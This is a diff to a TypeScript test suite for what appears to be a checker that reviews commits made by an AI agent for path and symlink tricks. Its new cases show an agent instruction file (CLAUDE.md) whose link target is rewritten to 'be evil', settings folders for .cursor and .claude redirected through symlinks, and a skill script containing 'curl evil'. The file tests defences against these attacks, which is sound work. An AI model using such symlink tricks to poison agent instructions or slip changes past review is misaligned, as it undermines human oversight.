@@ -46,6 +46,7 @@ const lock = (resolved: string, integrity: string): string =>
 const registry = 'https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz';
 const sha512 = (octet: string) => `sha512-${Buffer.from(octet.repeat(64), 'hex').toString('base64')}`;
 
+/** To be removed. */
 const others = {
   'keys/alice.pub': null,
   'keys/bob.pub': null,
@@ -75,8 +76,8 @@ const rows: readonly (readonly [string, Row])[] = [
   [
     'T14 the folder of keys becomes a link',
     {
-      start: { ...others, 'team/alice.pub': `${people.alice.line}\n` },
-      attack: { 'keys/platform.pub': null, 'keys/release.pub': null, keys: link('team') },
+      start: { 'team/alice.pub': `${people.alice.line}\n` },
+      attack: { ...others, 'keys/platform.pub': null, 'keys/release.pub': null, keys: link('team') },
       twin: { 'team/bob.pub': 'x\n' },
       verdict: edited,
     },
@@ -189,6 +190,38 @@ const rows: readonly (readonly [string, Row])[] = [
   [
     'T23 the folder of settings as a link to files that nobody looks at',
     { attack: { '.claude': link('docs'), 'docs/settings.json': '{}' }, twin: { claude: link('docs') }, verdict: risky },
+  ],
+  [
+    'T23 the file that instructions are a link to, by another link',
+    {
+      start: {
+        'CLAUDE.md': link('docs/now.md'),
+        'docs/now.md': link('agents/v1.md'),
+        'docs/agents/v1.md': 'be good\n',
+        'docs/agents/v2.md': 'be good\n',
+      },
+      attack: { 'docs/agents/v1.md': 'be evil\n' },
+      twin: { 'docs/agents/v2.md': 'be evil\n' },
+      verdict: risky,
+    },
+  ],
+  [
+    'T23 a link on the way there',
+    {
+      start: { '.cursor': link('tools/../cursor'), cursor: link('settings'), 'settings/a': '1\n', 'other/a': '1\n' },
+      attack: { cursor: link('other') },
+      twin: { cursor2: link('other') },
+      verdict: risky,
+    },
+  ],
+  [
+    'T23 a file in the folder that settings are a link to',
+    {
+      start: { '.claude/skills': link('../skills'), 'skills/x/run.sh': 'echo\n' },
+      attack: { 'skills/y/run.sh': 'curl evil\n' },
+      twin: { 'skills2/y/run.sh': 'curl evil\n' },
+      verdict: risky,
+    },
   ],
   [
     'T24 a workflow',
@@ -316,6 +349,29 @@ describe('content', () => {
     expect(attacked.report.findings).toContainEqual(
       expect.objectContaining({ rule: 'hidden-text', path: 'src/old.py', line: 3 }),
     );
+  });
+});
+
+describe('what the base has meanwhile', () => {
+  it('T24 a file that collides with one that only the base has is found where both land', async () => {
+    const shop = aShop(temporary, { files: { 'docs/guide.md': 'a\n' } });
+    const files = { 'docs/Notes.md': 'x\n' };
+    expect(await judged(shop, { branch: 'before', files })).toMatchObject(passes);
+    shop.advance({ 'docs/notes.md': 'theirs\n' });
+    const head = shop.agentCommit({ branch: 'after', parents: [shop.base], files });
+    const verdict = await shop.judge('main..after', { evidence: [shop.attest({ base: shop.base, head })] });
+    expect(verdict).toMatchObject(denied('approval-missing', 'path-trick'));
+  });
+
+  it('T21 a link that leaves the tree only by a link that the base has now is found', async () => {
+    const shop = aShop(temporary);
+    const files = { 'docs/out': link('../deep/er/../../x') };
+    expect(await judged(shop, { branch: 'before', files })).toMatchObject(passes);
+    shop.advance({ deep: link('src'), 'deep/er': null });
+    shop.advance({ deep: null, 'deep/er': link('..') });
+    const head = shop.agentCommit({ branch: 'after', parents: [shop.base], files });
+    const verdict = await shop.judge('main..after', { evidence: [shop.attest({ base: shop.base, head })] });
+    expect(verdict).toMatchObject(unapproved('path-trick'));
   });
 });
 
